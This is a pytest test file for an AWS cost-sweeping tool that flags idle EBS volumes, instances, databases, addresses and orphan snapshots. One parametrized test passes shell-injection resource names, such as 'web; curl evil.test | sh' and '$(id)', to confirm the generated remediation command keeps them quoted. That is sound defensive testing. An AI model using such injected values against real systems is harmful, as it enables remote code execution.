import json
import subprocess
from collections.abc import Mapping
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest

from cost_pipeline.aws.api_calls import METRICS, ApiError
from cost_pipeline.core.model import Price
from cost_pipeline.core.plain_text import one_line
from cost_pipeline.prices.book import PriceBook
from cost_pipeline.zombies.model import SweepResult
from cost_pipeline.zombies.registry import CHECKS, Plan, sweep
from cost_pipeline.zombies.thresholds import Exclusion, Thresholds

NOW = datetime(2026, 11, 24, 5, tzinfo=UTC)
ACCOUNT, REGION = "111122223333", "us-east-1"
INSTANCE = {
    "InstanceId": "i-1",
    "InstanceType": "m5.large",
    "State": {"Name": "running"},
    "LaunchTime": "2026-06-01T00:00:00+00:00",
}
VOLUME = {
    "VolumeId": "vol-1",
    "State": "available",
    "Size": 100,
    "VolumeType": "gp3",
    "CreateTime": "2026-06-01T00:00:00+00:00",
}


def run(check: str, inventory: Mapping[str, Any], **options: Any) -> SweepResult:
    return sweep(
        inventory,
        account_id=ACCOUNT,
        region=REGION,
        now=NOW,
        prices=options.pop("prices", PriceBook.packaged()),
        checks=[CHECKS[check]],
        **options,
    )


def idle_series(inventory: Mapping[str, Any], value: float = 0.0, days: int = 14) -> dict[str, Any]:
    queries = Plan().metric_queries(inventory, account_id=ACCOUNT, region=REGION, now=NOW)
    moments = [(NOW - timedelta(days=n)).isoformat() for n in range(1, days)]
    return {query.key: [[moment, value] for moment in moments] for query in queries}


def test_a_finding_says_what_since_when_whose_how_much_and_how_to_remove_it() -> None:
    resources = [
        {
            "resource_id": "vol-1",
            "created_by": "maya@example.com",
            "created_at": datetime(2026, 6, 1, tzinfo=UTC),
            "events": {"DetachVolume": ["2026-10-02T09:30:00+00:00", "sam"]},
        }
    ]
    result = run("ebs_unattached", {"ec2:DescribeVolumes": [VOLUME]}, resources=resources)
    (finding,) = result.findings
    assert finding.creator == "maya@example.com"
    assert finding.idle_since == datetime(2026, 10, 2, 9, 30, tzinfo=UTC)
    assert finding.monthly_cost == Decimal("8.00")
    assert finding.confidence == "high"
    assert "delete-volume --volume-id vol-1 --region us-east-1" in finding.remediation
    assert "Terraform: remove the aws_ebs_volume" in finding.remediation
    assert finding.evidence["reasons"] == [
        "CloudTrail: DetachVolume by sam on 2026-10-02 09:30 UTC."
    ]
    assert json.loads(json.dumps(finding.evidence)) == finding.evidence


@pytest.mark.parametrize(
    "name", ["web; curl evil.test | sh", "$(id)", "`id`", "it's", "two\nlines", "web #1"]
)
def test_a_name_is_one_word_of_the_command_whatever_it_holds(name: str) -> None:
    address = {"AllocationId": name, "PublicIp": "192.0.2.1"}
    (finding,) = run("address_unassociated", {"ec2:DescribeAddresses": [address]}).findings
    command, _ = finding.remediation.split("\nTerraform: ")
    shell = f"aws() {{ printf '%s\\n' \"$@\"; }}\n{command}"
    said = subprocess.run(["bash", "-c", shell], capture_output=True, text=True, check=True)
    words = ["ec2", "release-address", "--allocation-id", one_line(name), "--region", REGION]
    assert said.stdout.splitlines() == words


def test_metrics_decide_and_are_told() -> None:
    inventory: dict[str, Any] = {"ec2:DescribeInstances": [INSTANCE]}
    (finding,) = run("instance_idle", inventory, metrics=idle_series(inventory)).findings
    assert finding.evidence["metrics"]["CPUUtilization"] == {
        "value": 0.0,
        "at_most": 5,
        "days_with_data": 13,
    }
    assert finding.idle_since == NOW - timedelta(days=14)
    assert run("instance_idle", inventory, metrics=idle_series(inventory, 6e6)).findings == []


def test_idle_since_is_no_earlier_than_its_making() -> None:
    made = NOW - timedelta(days=9)
    inventory: dict[str, Any] = {
        "ec2:DescribeInstances": [INSTANCE | {"LaunchTime": made.isoformat()}]
    }
    (finding,) = run("instance_idle", inventory, metrics=idle_series(inventory, 1.0)).findings
    assert finding.idle_since == made
    assert finding.evidence["reasons"][-1] == "Idle at least since 2026-11-15."


def test_metrics_may_come_with_the_inventory() -> None:
    inventory: dict[str, Any] = {"ec2:DescribeInstances": [INSTANCE]}
    inventory[METRICS] = idle_series(inventory)
    assert len(run("instance_idle", inventory).findings) == 1


def test_a_denied_call_costs_its_checks_only_and_names_the_permission() -> None:
    denied = ApiError("ec2:DescribeVolumes", "access was denied.", "ec2:DescribeVolumes")
    inventory = {"ec2:DescribeVolumes": denied, "ec2:DescribeAddresses": [{"PublicIp": "1.2.3.4"}]}
    result = sweep(
        inventory,
        {},
        account_id=ACCOUNT,
        region=REGION,
        now=NOW,
        prices=PriceBook.packaged(),
        checks=[CHECKS["ebs_unattached"], CHECKS["address_unassociated"]],
    )
    assert [f.check_name for f in result.findings] == ["address_unassociated"]
    (failure,) = result.failures
    assert failure.check_name == "ebs_unattached"
    assert "Allow ec2:DescribeVolumes." in failure.message


def test_without_cloudwatch_a_metric_check_fails_and_says_so() -> None:
    denied = ApiError(METRICS, "access was denied.", METRICS)
    inventory = {"ec2:DescribeInstances": [INSTANCE], METRICS: denied}
    (failure,) = run("instance_idle", inventory).failures
    assert "Allow cloudwatch:GetMetricData." in failure.message


def test_a_call_that_was_not_made_is_a_failure_not_a_clean_bill() -> None:
    (failure,) = run("ebs_unattached", {}).failures
    assert "was not asked" in failure.message


def test_an_answer_of_an_unexpected_shape_costs_its_check_only() -> None:
    (failure,) = run("ebs_unattached", {"ec2:DescribeVolumes": [{"State": "available"}]}).failures
    assert "unexpected shape" in failure.message


@pytest.mark.parametrize(
    ("thresholds", "volume", "reason"),
    [
        (Thresholds(), {"Tags": [{"Key": "dd0c:keep", "Value": ""}]}, "tagged dd0c:keep"),
        (Thresholds(keep_tags=("legal",)), {"Tags": [{"Key": "legal", "Value": "x"}]}, "legal"),
        (Thresholds(exclusions=(Exclusion("vol-*"),)), {}, "excluded by vol-*"),
        (Thresholds(), {"CreateTime": "2026-11-20T00:00:00Z"}, "idle for 4.2 days only, of 7"),
        (Thresholds({"ebs_unattached": {"min_idle_days": 400}}), {}, "of 400"),
    ],
)
def test_what_is_left_out_is_left_out_for_a_reason(
    thresholds: Thresholds, volume: dict[str, Any], reason: str
) -> None:
    inventory = {"ec2:DescribeVolumes": [VOLUME | volume]}
    result = run("ebs_unattached", inventory, thresholds=thresholds)
    assert result.findings == []
    assert reason in result.left_out[0].reason


def test_a_limit_of_zero_is_zero() -> None:
    thresholds = Thresholds({"ebs_unattached": {"min_idle_days": 0}})
    inventory = {"ec2:DescribeVolumes": [VOLUME | {"CreateTime": "2026-11-24T04:59:00Z"}]}
    assert len(run("ebs_unattached", inventory, thresholds=thresholds).findings) == 1


def test_keep_false_does_not_keep() -> None:
    volume = VOLUME | {"Tags": [{"Key": "dd0c:keep", "Value": "false"}]}
    assert len(run("ebs_unattached", {"ec2:DescribeVolumes": [volume]}).findings) == 1


def test_an_unknown_price_is_unknown_not_zero() -> None:
    class NoPrices:
        def price(self, *_: Any) -> Price:
            return Price(None, "unpriced", "no idea")

    result = run("ebs_unattached", {"ec2:DescribeVolumes": [VOLUME]}, prices=NoPrices())
    assert result.findings[0].monthly_cost is None
    assert result.findings[0].evidence["price"] == ["no idea"]


def test_doubt_marks_down() -> None:
    database = {
        "DBInstanceIdentifier": "copy",
        "DBInstanceArn": "arn:aws:rds:us-east-1:111122223333:db:copy",
        "DBInstanceClass": "db.m5.large",
        "Engine": "postgres",
        "DBInstanceStatus": "available",
        "ReadReplicaSourceDBInstanceIdentifier": "main",
    }
    inventory: dict[str, Any] = {"rds:DescribeDBInstances": [database]}
    (finding,) = run("database_idle", inventory, metrics=idle_series(inventory)).findings
    assert finding.confidence == "low"
    assert "A replica of main" in finding.evidence["reasons"][-1]


def test_members_of_a_group_are_left_to_the_group() -> None:
    instance = INSTANCE | {"Tags": [{"Key": "aws:autoscaling:groupName", "Value": "web"}]}
    inventory: dict[str, Any] = {"ec2:DescribeInstances": [instance]}
    assert run("instance_idle", inventory, metrics=idle_series(inventory)).findings == []


def test_only_what_may_become_a_finding_is_measured() -> None:
    young = INSTANCE | {"InstanceId": "i-2", "LaunchTime": "2026-11-23T00:00:00Z"}
    kept = INSTANCE | {"InstanceId": "i-3", "Tags": [{"Key": "dd0c:keep", "Value": "1"}]}
    queries = Plan((CHECKS["instance_idle"],)).metric_queries(
        {"ec2:DescribeInstances": [INSTANCE, young, kept]},
        account_id=ACCOUNT,
        region=REGION,
        now=NOW,
    )
    assert {dict(query.dimensions)["InstanceId"] for query in queries} == {"i-1"}
    assert len({query.key for query in queries}) == len(queries) == 3


def test_a_series_that_was_never_asked_for_is_not_taken_for_idle() -> None:
    result = run("instance_idle", {"ec2:DescribeInstances": [INSTANCE]}, metrics={})
    assert result.findings == []
    assert "did not answer" in result.left_out[0].reason


@pytest.mark.parametrize(
    ("exclusion", "excluded"),
    [
        (Exclusion("vol-*", account=ACCOUNT, region="us-*"), True),
        (Exclusion("vol-*", account="999999999999"), False),
        (Exclusion(check="snapshot_*"), False),
        (Exclusion(tag="env=prod"), True),
        (Exclusion(tag="env=test"), False),
        (Exclusion("vol-1", until=date(2026, 11, 25)), True),
        (Exclusion("vol-1", until=date(2026, 11, 24)), False),
    ],
)
def test_an_exclusion_covers_what_it_says_until_it_ends(
    exclusion: Exclusion, excluded: bool
) -> None:
    tagged = VOLUME | {"Tags": [{"Key": "env", "Value": "prod"}]}
    thresholds = Thresholds(exclusions=(exclusion,))
    result = run("ebs_unattached", {"ec2:DescribeVolumes": [tagged]}, thresholds=thresholds)
    assert (result.findings == []) == excluded


def test_what_is_marked_down_is_listed_with_the_reason() -> None:
    chosen = Thresholds(exclusions=(Exclusion("vol-1", reason="moves", mark_down=True),))
    (finding,) = run(
        "ebs_unattached", {"ec2:DescribeVolumes": [VOLUME]}, thresholds=chosen
    ).findings
    assert finding.confidence == "low"
    assert finding.evidence["reasons"][-1] == "Marked down by vol-1: moves."


def test_a_machine_that_bursts_weekly_is_left_out_and_says_when() -> None:
    inventory: dict[str, Any] = {"ec2:DescribeInstances": [INSTANCE]}
    series = idle_series(inventory, 1.0)
    cpu = next(points for key, points in series.items() if "CPUUtilization" in key)
    cpu[3][1], cpu[10][1] = 97.0, 95.0
    result = run("instance_idle", inventory, metrics=series)
    (left_out,) = result.left_out
    assert result.findings == []
    assert left_out.reason == "bursts: CPUUtilization over 5 on 2 of 13 days, 97 on 2026-11-20"


def test_use_after_the_idle_call_leaves_the_time_unknown() -> None:
    events = {
        "DetachVolume": ["2026-10-02T09:30:00+00:00", "sam"],
        "AttachVolume": ["2026-10-05T09:30:00+00:00", "sam"],
    }
    known = [{"resource_id": "vol-1", "events": events}]
    (finding,) = run("ebs_unattached", {"ec2:DescribeVolumes": [VOLUME]}, resources=known).findings
    assert finding.idle_since is None


def test_the_image_of_a_snapshot_tells_its_maker_and_its_end() -> None:
    snapshot = {
        "SnapshotId": "snap-1",
        "VolumeId": "vol-ffffffff",
        "VolumeSize": 8,
        "StartTime": "2026-09-20T00:00:00+00:00",
        "Description": "Created by CreateImage(i-0a1) for ami-0b1",
    }
    known = [
        {
            "resource_id": "ami-0b1",
            "created_by": "maya",
            "events": {"DeregisterImage": ["2026-10-02T09:30:00+00:00", "sam"]},
        }
    ]
    inventory = {
        "ec2:DescribeSnapshots": [snapshot],
        "ec2:DescribeVolumes": [],
        "ec2:DescribeImages": [],
    }
    (finding,) = run("snapshot_orphan", inventory, resources=known).findings
    assert (finding.creator, f"{finding.idle_since:%m-%d}") == ("maya", "10-02")
    assert "DeregisterImage by sam" in finding.evidence["reasons"][0]
